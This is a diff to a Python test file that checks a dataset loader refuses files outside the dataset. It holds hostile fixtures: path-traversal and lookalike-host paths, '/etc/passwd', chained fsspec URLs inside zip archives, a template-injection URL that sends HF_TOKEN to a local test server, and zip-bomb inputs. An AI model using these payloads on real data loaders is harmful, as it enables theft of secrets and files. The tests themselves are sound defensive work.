@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 import os
 import threading
+import zipfile
+import zlib
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -16,7 +18,7 @@ import pytest
 
 from gpt_pretrain.errors import UserError
 from gpt_pretrain.texts.chunks import ReadPosition
-from gpt_pretrain.texts.dataset_files import _is_own
+from gpt_pretrain.texts.dataset_guard import _OwnFiles, own_files_only
 from gpt_pretrain.texts.inputs import StreamedDataset
 from gpt_pretrain.texts.tables import read_dataset
 from tests.helpers.hostile_server import Stranger
@@ -216,18 +218,124 @@ def test_the_description_of_a_dataset_names_only_its_own_files(stranger: Strange
 
 
 @pytest.mark.parametrize(
-    ("pattern", "own"),
+    ("path", "own"),
     [
-        ("data/*.txt", True),
         ("hf://datasets/them/theirs@main/x.txt", True),
         ("hf://datasets/them/theirs/x.txt", True),
+        ("{endpoint}/datasets/them/theirs/resolve/main/README.md", True),
         ("hf://datasets/them/theirs-and-others@main/x.txt", False),
+        ("hf://datasets/them/theirs@main/../../others/x@main/x.txt", False),
         ("hf://datasets/others/x@main/x.txt", False),
+        ("{endpoint}.evil.org/datasets/them/theirs/resolve/main/README.md", False),
+        ("hf://datasets/theirs/x@main/x.txt", False),
+        ("hf://buckets/them/theirs/x.txt", False),
         ("/etc/passwd", False),
-        ("../../../x@main/x.txt", False),
         ("https://host/x.txt", False),
         ("reference://d::http://host/x.json", False),
     ],
 )
-def test_a_dataset_of_the_hub_names_only_files_of_its_repository(pattern: str, own: bool) -> None:
-    assert _is_own(pattern, "hf://datasets/them/theirs@" + "c" * 40, "theirs") == own
+@pytest.mark.parametrize("name", ["theirs", "them/theirs"])
+def test_a_dataset_of_the_hub_has_only_files_of_its_repository(name: str, path: str, own: bool) -> None:
+    assert _OwnFiles(name).includes(path.format(endpoint=datasets.config.HF_ENDPOINT)) == own
+
+
+# Archives
+
+
+def write_zip(file: Path, *names: str) -> None:
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr("a.txt", "own line\n")
+        for name in names:
+            archive.writestr(name, "{}")
+
+
+@pytest.mark.parametrize(
+    "member",
+    [
+        "w::reference::{theirs}/refs.md5/doc.txt",
+        "w::reference::refs.md5/doc.txt",
+        "w::{private}/document.xml",
+        "w::zip::{private}/document.xml",
+        "w::simplecache::{url}/x.zip/document.xml",
+        "w::{url}/x.zip/document.xml",
+        "w::zip://v::{theirs}/data.zip/document.xml",
+        "zip:/::{theirs}/data.zip",
+    ],
+)
+@pytest.mark.parametrize("archive", ["data.zip", "logs.eval"])
+def test_a_name_in_an_archive_leads_nowhere(
+    stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, member: str, archive: str
+) -> None:
+    private, theirs = tmp_path / "contract.docx", tmp_path / "theirs"
+    theirs.mkdir()
+    with zipfile.ZipFile(private, "w") as made:
+        made.writestr("document.xml", "the salary")
+    address = f"{stranger.url}/leak?{{{{u.__globals__[os].environ[HF_TOKEN]}}}}"
+    keys = ("", f"{theirs}/refs.md5", f"{theirs}/refs.md5".lstrip("/"), "refs.md5", "/")
+    refs = {"version": 1, "templates": {"u": "{{x}}"}, "refs": {key: [address, 0, 100] for key in keys}}
+    (theirs / "refs.md5").write_text(json.dumps(refs))
+    member = member.format(theirs=theirs, private=private, url=stranger.url)
+    write_zip(theirs / archive, f"{member}/samples/1_epoch_1.json" if archive == "logs.eval" else member)
+    monkeypatch.setenv("HF_TOKEN", "hf_SECRETTOKEN")
+    monkeypatch.chdir(theirs)  # where a relative name is a file of the dataset
+    try:
+        found = read(theirs)
+    except UserError as error:
+        assert "which is not a file of the dataset itself" in str(error) or "of the kind eval" in str(error)
+    else:  # fsspec lists no name with two slashes in a row
+        assert "//" in member and set(found) == {"own line"}
+    assert stranger.asked == []
+
+
+def test_an_archive_is_read(tmp_path: Path) -> None:
+    write_zip(tmp_path / "data.zip", "further/b.txt")
+    assert read(tmp_path) == ["own line", "{}"]
+
+
+def test_only_file_systems_of_datasets_exist_while_one_is_read(tmp_path: Path) -> None:
+    import fsspec
+
+    opened = "reference://x", "github://a:b@c", "memory://x", "simplecache::memory://x", "dir::memory://x"
+    with own_files_only(str(tmp_path)):
+        for url in opened:
+            with pytest.raises(UserError, match="which is not a file of the dataset itself"):
+                fsspec.open(url)
+    fsspec.open("memory://x")
+
+
+def test_a_dataset_is_watched_while_its_records_are_read(tmp_path: Path) -> None:
+    import fsspec
+
+    (tmp_path / "a.txt").write_text("one\ntwo\n")
+    records = read_dataset(StreamedDataset(str(tmp_path), None, "train"), "text", start=ReadPosition())
+    next(records)
+    with pytest.raises(UserError, match="which is not a file of the dataset itself"):
+        fsspec.open("memory://x")
+    records.close()
+    fsspec.open("memory://x")
+
+
+@pytest.mark.parametrize("name", ["a.h5", "a.lance/data/x.lance", "a.vortex", "a.pdf", "a.png"])
+def test_files_that_may_name_other_files_are_not_read(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+    (tmp_path / name).write_bytes(b"\x89HDF\r\n\x1a\n" + b"\0" * 100)
+    with pytest.raises(UserError, match=r"its files are of the kind .*, whose reader may open other files as well"):
+        read(tmp_path)
+
+
+@pytest.mark.parametrize("kind", ["gz", "zip"])
+def test_a_small_archive_does_not_expand_without_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
+    monkeypatch.setattr("gpt_pretrain.texts.decompression.ALWAYS_READ", 1 << 20)
+    content = b"a" * 4095 + b"\n"
+    for count, fits in ((10, True), (10_000, False)):
+        if kind == "gz":
+            packer = zlib.compressobj(9, wbits=31)
+            (tmp_path / "x.txt.gz").write_bytes(packer.compress(content * count) + packer.flush())
+        else:
+            with zipfile.ZipFile(tmp_path / "x.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+                archive.writestr("x.txt", content * count)
+        if fits:
+            assert len(read(tmp_path)) == count
+        else:
+            with pytest.raises(UserError, match="expands to more than 250 times its size"):
+                read(tmp_path)
